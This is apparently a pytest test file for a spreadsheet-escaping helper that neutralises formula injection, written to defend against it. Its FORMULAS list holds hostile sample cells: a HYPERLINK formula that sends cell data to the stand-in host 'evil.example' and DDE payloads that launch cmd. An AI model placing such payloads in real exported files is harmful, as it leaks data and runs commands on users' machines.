import pytest

from core.spreadsheet import safe_cell, stored_text

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    " \t@A1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Atelier du tuffeau", "", "47.21806", "-1.55278", "+3", "a=b", "100 % pierre", "'texte"]
)
def test_plain_text_and_plain_numbers_are_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "text",
    [
        *FORMULAS,
        "+33 2 40 00 00 00",
        "- une liste",
        "'=déjà cité",
        "''+33",
        "'",
        "'texte",
        "-1.55278",
        "'-1.55278",
        "Atelier",
        "",
    ],
)
def test_reading_back_a_safe_cell_gives_the_text_itself(text):
    assert stored_text(safe_cell(text)) == text


def test_a_cell_typed_in_a_spreadsheet_without_the_quote_is_read_as_written():
    assert stored_text("+33 2 40 00 00 00") == "+33 2 40 00 00 00"
    assert stored_text("- une liste") == "- une liste"
